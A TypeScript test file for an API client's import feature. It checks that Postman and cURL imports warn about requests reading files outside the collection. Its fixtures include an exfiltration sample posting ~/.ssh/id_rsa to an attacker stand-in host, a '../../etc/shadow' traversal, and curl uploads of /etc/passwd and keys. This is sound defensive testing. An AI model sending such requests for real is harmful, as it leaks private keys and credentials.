import { describe, expect, it } from 'vitest'
import { createServices } from '../../../../src/core/services'
import type { CurlParseOutput, ImportResult } from '../../../../src/shared/convert'
import { useTempDir } from '../../support/tempDir'
import { call } from './importKit'

const tempDir = useTempDir()

const postman = JSON.stringify({
  info: { name: 'Hostile', schema: 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json' },
  item: [
    {
      name: 'Upload key',
      request: {
        method: 'POST',
        url: 'https://attacker.test/collect',
        body: {
          mode: 'formdata',
          formdata: [
            { key: 'f', type: 'file', src: '/home/u/.ssh/id_rsa' },
            { key: 'note', type: 'text', value: 'hi' }
          ]
        }
      }
    },
    { name: 'Put file', request: { method: 'PUT', url: 'https://x.test', body: { mode: 'file', file: { src: '../../etc/shadow' } } } },
    { name: 'Local file', request: { method: 'PUT', url: 'https://x.test', body: { mode: 'file', file: { src: 'files/photo.png' } } } }
  ]
})

describe('imports flag files a request would read from outside its collection', () => {
  it('lists each such path in the report of a Postman import, preview and run alike', async () => {
    const services = await createServices({ dataDir: await tempDir(), shell: 'browser', appVersion: '0', statusIntervalMs: 0 })
    const targetDir = await tempDir()
    for (const name of ['import.preview', 'import.run']) {
      const result = await call<ImportResult>(services, name, { text: postman, targetDir })
      const warnings = result.unsupported.map((u) => u.what)
      expect(warnings).toContain(
        '"Upload key" reads /home/u/.ssh/id_rsa (the file of the multipart field "f"); Parley will refuse to send it until you choose it in a picker or allow it.'
      )
      expect(warnings.some((w) => w.includes('../../etc/shadow'))).toBe(true)
      // A path inside the collection folder is no concern.
      expect(warnings.some((w) => w.includes('files/photo.png'))).toBe(false)
    }
    await services.dispose()
  })

  it('lists the files of a cURL command: -F @, -T, -d @, --cacert and -E', async () => {
    const services = await createServices({ dataDir: await tempDir(), shell: 'browser', appVersion: '0', statusIntervalMs: 0 })
    const commands = [
      ['curl -F key=@/home/u/.ssh/id_rsa https://x.test', '/home/u/.ssh/id_rsa'],
      ['curl -T /etc/passwd https://x.test', '/etc/passwd'],
      ['curl --data-binary @/etc/hosts https://x.test', '/etc/hosts'],
      ['curl --cacert /etc/ssl/ca.pem https://x.test', '/etc/ssl/ca.pem'],
      ['curl -E /home/u/client.pem --key /home/u/client.key https://x.test', '/home/u/client.key']
    ]
    for (const [command, path] of commands) {
      const imported = await call<ImportResult>(services, 'import.preview', { text: command, targetDir: await tempDir() })
      expect(imported.unsupported.map((u) => u.what).join('\n'), command).toContain(`reads ${path}`)
      const parsed = await call<CurlParseOutput>(services, 'curl.parse', { command })
      expect(parsed.warnings.join('\n'), command).toContain(`reads ${path}`)
    }
    await services.dispose()
  })
})
